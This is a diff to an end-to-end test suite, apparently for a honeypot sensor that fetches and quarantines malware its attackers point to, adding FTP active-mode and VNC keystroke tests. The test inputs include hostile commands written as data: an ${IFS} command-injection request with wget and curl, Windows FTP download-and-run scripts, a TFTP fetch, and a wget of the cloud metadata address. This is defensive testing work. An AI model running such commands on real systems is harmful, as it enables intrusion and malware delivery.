@@ -81,12 +81,22 @@ function minimalElf(): Buffer {
   return Buffer.concat([header, randomBytes(4096).map((b) => b & 0x7f & ~0x20)]) // no ':' or '/' runs to read as URLs
 }
 
+/** An RFB KeyEvent message: type 4, down flag, two bytes of padding, the X keysym. */
+function keyEvent(keysym: number, down: boolean): Buffer {
+  const message = Buffer.alloc(8)
+  message[0] = 4
+  message[1] = down ? 1 : 0
+  message.writeUInt32BE(keysym, 4)
+  return message
+}
+
 describeNetns('plugins end to end: downloads from servers in the attacker namespace', () => {
   let fx: SensorFixture
   let pair: NetnsPair
   const servers: ChildProcess[] = []
   const files: Record<string, Buffer> = {}
-  let ftpPort = 0
+  let ftpPort = 0 // passive and active allowed: the default mode uses passive
+  let ftpActivePort = 0 // refuses PASV and EPSV: only the fallback to active mode gets the file
   let dataDir = ''
 
   beforeAll(async () => {
@@ -102,9 +112,11 @@ describeNetns('plugins end to end: downloads from servers in the attacker namesp
           "  downloads: { allow: ['198.18.0.0/15', 'fd00:4855::/32'], timeoutMs: 10000, maxBytes: 1048576 }",
           '  list:',
           '    - name: b64Decode',
+          '    - name: vncDownload',
           '    - { name: httpDownload, options: { followSamples: true } }',
-          // Active mode: the FTP server connects back into the sensor's namespace, through its NFQUEUE rule.
-          '    - { name: ftpDownload, options: { mode: active } }',
+          // The default mode, passive then active: one FTP server below refuses passive mode, so both are used, and the
+          // active one has the server connect back into the sensor's namespace, through its NFQUEUE rule.
+          '    - name: ftpDownload',
           '    - name: tftpDownload',
           '    - name: fileType',
           '    - name: fuzzyHash',
@@ -123,6 +135,8 @@ describeNetns('plugins end to end: downloads from servers in the attacker namesp
     files['stage3.bin'] = randomBytes(50_000)
     files['mal.exe'] = randomBytes(70_000) // 137 TFTP blocks
     files['drop.exe'] = randomBytes(30_000)
+    files['drop2.exe'] = randomBytes(20_000)
+    files['typed.bin'] = randomBytes(10_000)
     for (const [name, data] of Object.entries(files)) writeFileSync(join(www, name), data)
     copyFileSync(join(www, 'stage2.bin'), join(www, 'stage2.copy'))
 
@@ -134,6 +148,9 @@ describeNetns('plugins end to end: downloads from servers in the attacker namesp
     const ftp = await startServer(pair, PYTHON, [FTP_SERVER, www, pair.attackerV4], /^\d+\s/m)
     servers.push(ftp.child)
     ftpPort = Number(/^(\d+)/m.exec(ftp.output())?.[1])
+    const ftpActive = await startServer(pair, PYTHON, [FTP_SERVER, www, pair.attackerV4, '--no-passive'], /^\d+\s/m)
+    servers.push(ftpActive.child)
+    ftpActivePort = Number(/^(\d+)/m.exec(ftpActive.output())?.[1])
     const tftpd = pair.spawn(pair.attackerNs, 'in.tftpd', ['--foreground', '--secure', '--address', `${pair.attackerV4}:69`, www], { stdio: 'ignore' })
     servers.push(tftpd)
     await new Promise((r) => setTimeout(r, 300)) // in.tftpd prints nothing; the client's retransmission covers a late bind
@@ -144,15 +161,17 @@ describeNetns('plugins end to end: downloads from servers in the attacker namesp
     await fx?.teardown()
   })
 
-  it('fetches what one attack points at over HTTP, HTTPS, FTP and TFTP, follows a dropper to its next stage, and refuses the forbidden targets', async () => {
+  it('fetches what one attack points at over HTTP, HTTPS, FTP (passive and active) and TFTP, follows a dropper to its next stage, and refuses the forbidden targets', async () => {
     const A = pair.attackerV4
     const S = pair.sensorV4
     const ftpScript = `cmd /c echo open ${A} ${ftpPort} > o&echo user anonymous x >> o&echo binary >> o&echo get drop.exe >> o&echo quit >> o&ftp -n -s:o&drop.exe`
+    const ftpActiveScript = `cmd /c echo open ${A} ${ftpActivePort}>p&echo user anonymous x>>p&echo get drop2.exe>>p&echo bye>>p&ftp -n -s:p`
     const request = [
       `GET /cgi-bin/;cd\${IFS}/tmp;wget\${IFS}http://${A}:8080/stage1.sh;curl\${IFS}-k\${IFS}https://${A}:8443/stage2.bin HTTP/1.1`,
       `Host: ${S}`,
       `X-Tftp: tftp -i ${A} GET mal.exe`,
       `X-Ftp: ${ftpScript}`,
+      `X-Ftp-Active: ${ftpActiveScript}`,
       // Encoded: found only after b64Decode decoded it.
       `X-Data: ${Buffer.from(`wget http://${A}:8080/stage2.copy`).toString('base64')}`,
       `X-Bad: wget http://10.0.0.1/a.sh; wget http://169.254.169.254/latest/meta-data/; wget http://${S}:8080/own.sh`,
@@ -162,7 +181,7 @@ describeNetns('plugins end to end: downloads from servers in the attacker namesp
     const [result] = await runAttackPlan(pair, [{ type: 'tcp', host: S, port: 80, send: request, halfClose: true, waitMs: 2_000 }])
     expect(result?.['connected']).toBe(true)
 
-    const expected = [`http://${A}:8080/stage1.sh`, `https://${A}:8443/stage2.bin`, `http://${A}:8080/stage3.bin`, `http://${A}:8080/stage2.copy`, `tftp://${A}:69/mal.exe`, `ftp://${A}:${ftpPort}/drop.exe`]
+    const expected = [`http://${A}:8080/stage1.sh`, `https://${A}:8443/stage2.bin`, `http://${A}:8080/stage3.bin`, `http://${A}:8080/stage2.copy`, `tftp://${A}:69/mal.exe`, `ftp://${A}:${ftpPort}/drop.exe`, `ftp://${A}:${ftpActivePort}/drop2.exe`]
     const rows = await waitFor(() => downloads(fx.dbPath), (r) => expected.every((url) => r.some((d) => d.url === url)), 30_000)
     // Nothing but the servers of this test and the three refused targets was ever named.
     expect(rows.map((r) => r.url).sort()).toEqual([...expected, 'http://10.0.0.1/a.sh', 'http://169.254.169.254/latest/meta-data/', `http://${S}:8080/own.sh`].sort())
@@ -175,7 +194,8 @@ describeNetns('plugins end to end: downloads from servers in the attacker namesp
     expectOk(`http://${A}:8080/stage3.bin`, 'stage3.bin', 'httpDownload') // named by the downloaded stage1.sh
     expectOk(`http://${A}:8080/stage2.copy`, 'stage2.copy', 'httpDownload') // named in base64
     expectOk(`tftp://${A}:69/mal.exe`, 'mal.exe', 'tftpDownload')
-    expectOk(`ftp://${A}:${ftpPort}/drop.exe`, 'drop.exe', 'ftpDownload')
+    expectOk(`ftp://${A}:${ftpPort}/drop.exe`, 'drop.exe', 'ftpDownload') // passive
+    expectOk(`ftp://${A}:${ftpActivePort}/drop2.exe`, 'drop2.exe', 'ftpDownload') // passive refused: active
     for (const url of ['http://10.0.0.1/a.sh', 'http://169.254.169.254/latest/meta-data/', `http://${S}:8080/own.sh`]) {
       expect(byUrl.get(url), url).toMatchObject({ outcome: 'refused', address: null, bytes: 0 })
     }
@@ -183,7 +203,7 @@ describeNetns('plugins end to end: downloads from servers in the attacker namesp
 
     // Each sample once in the quarantine, by digest, owner-read-only and not executable.
     const samples = readRows<{ sha256: string; path: string; size: number }>(fx.dbPath, 'SELECT sha256, path, size FROM samples')
-    expect(samples.length).toBeGreaterThanOrEqual(5)
+    expect(samples.length).toBeGreaterThanOrEqual(6)
     for (const s of samples) {
       expect(sha256(readFileSync(s.path))).toBe(s.sha256)
       expect(statSync(s.path).mode & 0o777).toBe(0o400)
@@ -201,6 +221,20 @@ describeNetns('plugins end to end: downloads from servers in the attacker namesp
     expect(JSON.parse(line.trim().split('\n')[0]!)).toMatchObject({ src: pair.attackerV4, dport: 80 })
     expect(readdirSync(join(dataDir, 'saved')).length).toBeGreaterThan(0)
   }, 60_000)
+
+  it('rebuilds what an attacker types into a VNC session and fetches the URL typed', async () => {
+    const url = `http://${pair.attackerV4}:8080/typed.bin`
+    // The client's side of an RFB 3.8 session: version, security type None, ClientInit, then key presses.
+    const keys = [...`wget ${url}`].map((c) => c.charCodeAt(0)).concat([0xff0d]) // ...then Return
+    const events = keys.flatMap((keysym) => [keyEvent(keysym, true), keyEvent(keysym, false)])
+    const session = Buffer.concat([Buffer.from('RFB 003.008\n'), Buffer.from([1, 1]), ...events])
+    const [result] = await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV4, port: 5900, sendBase64: session.toString('base64'), halfClose: true, waitMs: 1_500 }])
+    expect(result?.['connected']).toBe(true)
+    const rows = await waitFor(() => downloads(fx.dbPath), (r) => r.some((d) => d.url === url), 20_000)
+    expect(rows.find((d) => d.url === url)).toMatchObject({ outcome: 'ok', sha256: sha256(files['typed.bin']!) })
+    const typed = readRows<{ data: Buffer; info: string }>(fx.dbPath, "SELECT data, info FROM artifacts WHERE kind = 'decoded' AND info LIKE '%vncDownload:typed%'")
+    expect(typed.map((t) => t.data.toString())).toContain(`wget ${url}\n`)
+  }, 30_000)
 
   it('runs the pipeline at the lowest priority, and restarts it when it is killed while the sensor keeps serving', async () => {
     const pid = fx.sensor!.pid
